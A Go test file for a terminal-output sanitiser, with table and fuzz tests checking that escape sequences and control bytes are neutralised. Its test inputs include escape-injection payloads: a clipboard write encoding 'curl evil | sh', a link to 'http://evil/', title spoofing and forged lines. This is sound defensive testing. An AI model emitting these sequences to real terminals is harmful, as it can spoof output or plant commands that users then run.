package termsafe

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"
)

// filterAll runs in through a fresh Writer, written in the given chunk
// sizes (cycled; nil writes it at once), and flushes.
func filterAll(t testing.TB, in []byte, chunks []int) string {
	var out bytes.Buffer
	w := new(Terminal).Writer(&out, false)
	for i, k := 0, 0; i < len(in); k++ {
		n := len(in) - i
		if len(chunks) > 0 {
			n = min(n, max(chunks[k%len(chunks)], 1))
		}
		if m, err := w.Write(in[i : i+n]); m != n || err != nil {
			t.Fatalf("Write = %d, %v; want %d, nil", m, err, n)
		}
		i += n
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func TestFilter(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain text", "hello, world\n", "hello, world\n"},
		{"tab and UTF-8", "a\tb été 日本 🙂\n", "a\tb été 日本 🙂\n"},
		{"CRLF", "line\r\nnext\r\n", "line\r\nnext\r\n"},
		{"lone CR", "airlock: ok\rforged\n", "airlock: ok^Mforged\n"},
		{"CR at the end", "progress\r", "progress^M"},
		{"CR CR LF", "a\r\r\n", "a^M\r\n"},
		{"backspace", "abc\b\b\bxyz", "abc^H^H^Hxyz"},
		{"BEL, NUL, DEL", "\a\x00\x7f", "^G^@^?"},
		{"colour", "\x1b[31mred\x1b[0m \x1b[1;32mbold green\x1b[m\n", "\x1b[31mred\x1b[0m \x1b[1;32mbold green\x1b[m\n"},
		{"bright colours", "\x1b[97;100mx\x1b[107m", "\x1b[97;100mx\x1b[107m"},
		{"empty params", "\x1b[;1;m", "\x1b[;1;m"},
		{"concealed", "\x1b[8msecret\x1b[0m", "^[[8msecret\x1b[0m"},
		{"concealed among others", "\x1b[1;08;31m", "^[[1;08;31m"},
		{"256 colours", "\x1b[38;5;196m", "^[[38;5;196m"},
		{"param over 107", "\x1b[108m", "^[[108m"},
		{"huge param", "\x1b[99999999999999999999m", "^[[99999999999999999999m"},
		{"params over the cap", "\x1b[" + strings.Repeat("0;", 20) + "m", "^[[" + strings.Repeat("0;", 16) + strings.Repeat("0;", 4) + "m"},
		{"private SGR", "\x1b[?1m", "^[[?1m"},
		{"colon subparams", "\x1b[38:2:1:2:3m", "^[[38:2:1:2:3m"},
		{"cursor home", "\x1b[H", "^[[H"},
		{"cursor up", "\x1b[2A", "^[[2A"},
		{"erase screen", "\x1b[2J", "^[[2J"},
		{"erase line", "\x1b[K", "^[[K"},
		{"cursor save", "\x1b7\x1b8", "^[7^[8"},
		{"OSC title, BEL", "\x1b]0;pwned\a", "^[]0;pwned^G"},
		{"OSC title, ST", "\x1b]2;pwned\x1b\\", "^[]2;pwned^[\\"},
		{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a", "^[]52;c;Y3VybCBldmlsIHwgc2g=^G"},
		{"OSC 8 link", "\x1b]8;;http://evil/\x1b\\text\x1b]8;;\x1b\\", "^[]8;;http://evil/^[\\text^[]8;;^[\\"},
		{"DCS", "\x1bP1$r0m\x1b\\", "^[P1$r0m^[\\"},
		{"APC", "\x1b_payload\x1b\\", "^[_payload^[\\"},
		{"PM", "\x1b^privacy\x1b\\", "^[^privacy^[\\"},
		{"SOS", "\x1bXstring\x1b\\", "^[Xstring^[\\"},
		{"ESC ESC", "\x1b\x1b[31m", "^[\x1b[31m"},
		{"ESC at the end", "x\x1b", "x^["},
		{"unfinished colour at the end", "x\x1b[31", "x^[[31"},
		{"C1 CSI in UTF-8", "\u009b31m", "M-^[31m"},
		{"C1 OSC in UTF-8", "\u009d0;t\u009c", "M-^]0;tM-^\\"},
		{"C1 NEL", "a\u0085b", "aM-^Eb"},
		{"raw 0x9b", "\x9b2J", "M-^[2J"},
		{"raw Latin-1", "caf\xe9\n", "cafM-i\n"},
		{"truncated UTF-8", "\xe6\x97x", "M-fM-^Wx"},
		{"overlong", "\xc0\xafx", "M-@M-/x"},
		{"surrogate", "\xed\xa0\x80", "M-mM- M-^@"},
		{"UTF-8 then ESC", "\xe6\x97\x1b[0m", "M-fM-^W\x1b[0m"},
	}
	for _, tt := range tests {
		for _, chunks := range [][]int{nil, {1}, {2, 3}} {
			if got := filterAll(t, []byte(tt.in), chunks); got != tt.want {
				t.Errorf("%s, chunks %v: %q gives %q, want %q", tt.name, chunks, tt.in, got, tt.want)
			}
		}
	}
}

func TestRaw(t *testing.T) {
	var out bytes.Buffer
	w := new(Terminal).Writer(&out, true)
	in := "\x1b]0;title\a\x1b[2J\r\x9b"
	if _, err := w.Write([]byte(in)); err != nil || out.String() != in {
		t.Errorf("raw: %q %v, want it unchanged", out.String(), err)
	}
}

// TestSay: before the caller's own line the terminal gets the command's
// held-back bytes, a reset, and a newline only when the last byte shown
// was not one; stdout and stderr writers of one terminal share the line.
func TestSay(t *testing.T) {
	tests := []struct {
		name           string
		stdout, stderr string
		raw            bool
		want           string
	}{
		{"nothing written", "", "", false, "\x1b[0mA\n\x1b[0mB\n"},
		{"ended with a newline", "done\n", "", false, "done\n\x1b[0mA\n\x1b[0mB\n"},
		{"mid-line", "50%", "", false, "50%\x1b[0m\nA\n\x1b[0mB\n"},
		{"colour left on", "\x1b[31mred", "", false, "\x1b[31mred\x1b[0m\nA\n\x1b[0mB\n"},
		{"unfinished sequence", "x\x1b[3", "", false, "x^[[3\x1b[0m\nA\n\x1b[0mB\n"},
		{"lone CR held back", "x\r", "", false, "x^M\x1b[0m\nA\n\x1b[0mB\n"},
		{"stderr last, mid-line", "out\n", "err", false, "out\nerr\x1b[0m\nA\n\x1b[0mB\n"},
		{"stderr last, ended", "out", "err\n", false, "outerr\n\x1b[0mA\n\x1b[0mB\n"},
		{"raw, mid-line", "\x1b[8m50%", "", true, "\x1b[8m50%\x1b[0m\nA\n\x1b[0mB\n"},
	}
	for _, tt := range tests {
		var screen bytes.Buffer
		term := new(Terminal)
		out, errw := term.Writer(&screen, tt.raw), term.Writer(&screen, tt.raw)
		out.Write([]byte(tt.stdout))
		errw.Write([]byte(tt.stderr))
		if err := term.Say(&screen, "A"); err != nil {
			t.Fatal(err)
		}
		if err := term.Say(&screen, "B\n"); err != nil {
			t.Fatal(err)
		}
		if got := screen.String(); got != tt.want {
			t.Errorf("%s: screen %q, want %q", tt.name, got, tt.want)
		}
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("gone") }

func TestWriteError(t *testing.T) {
	w := new(Terminal).Writer(failWriter{}, false)
	if n, err := w.Write([]byte("x")); n != 0 || err == nil {
		t.Errorf("Write to a failing writer = %d, %v", n, err)
	}
}

// checkSafe returns what in the output a terminal would act on, or "".
func checkSafe(out string) string {
	if !utf8.ValidString(out) {
		return "invalid UTF-8"
	}
	for i := 0; i < len(out); i++ {
		switch b := out[i]; {
		case b == esc:
			j := i + 2
			for j < len(out) && (out[j] >= '0' && out[j] <= '9' || out[j] == ';') {
				j++
			}
			if i+1 >= len(out) || out[i+1] != '[' || j >= len(out) || out[j] != 'm' || !allowedSGR([]byte(out[i+2:j])) {
				return fmt.Sprintf("ESC outside an allowed colour sequence at byte %d", i)
			}
			i = j
		case b == '\r':
			if i+1 >= len(out) || out[i+1] != '\n' {
				return "CR not followed by LF"
			}
		case b < 0x20 && b != '\n' && b != '\t', b == 0x7f:
			return "a C0 control"
		}
	}
	for _, r := range out {
		if r >= 0x80 && r <= 0x9f {
			return "a C1 control"
		}
	}
	return ""
}

func FuzzFilter(f *testing.F) {
	for _, s := range []string{
		"\x1b[31mred\x1b[0m\n", "\x1b]52;c;eA==\a", "\x1b[2J\x1b[H", "a\rb\r\n", "\u009b2J\x9b",
		"\x1b[8m", "\xe6\x97\xa5\xe6", "\x1bP$q\x1b\\", "\x1b[" + strings.Repeat("1;", 40) + "m",
	} {
		f.Add([]byte(s), uint8(1), uint8(3))
	}
	f.Fuzz(func(t *testing.T, in []byte, c1, c2 uint8) {
		whole := filterAll(t, in, nil)
		if why := checkSafe(whole); why != "" {
			t.Fatalf("%q gives %q: %s", in, whole, why)
		}
		if split := filterAll(t, in, []int{int(c1), int(c2)}); split != whole {
			t.Fatalf("%q written in chunks of %d and %d gives %q, at once %q", in, c1, c2, split, whole)
		}
		if again := filterAll(t, []byte(whole), nil); again != whole {
			t.Fatalf("not idempotent: %q gives %q, then %q", in, whole, again)
		}
	})
}
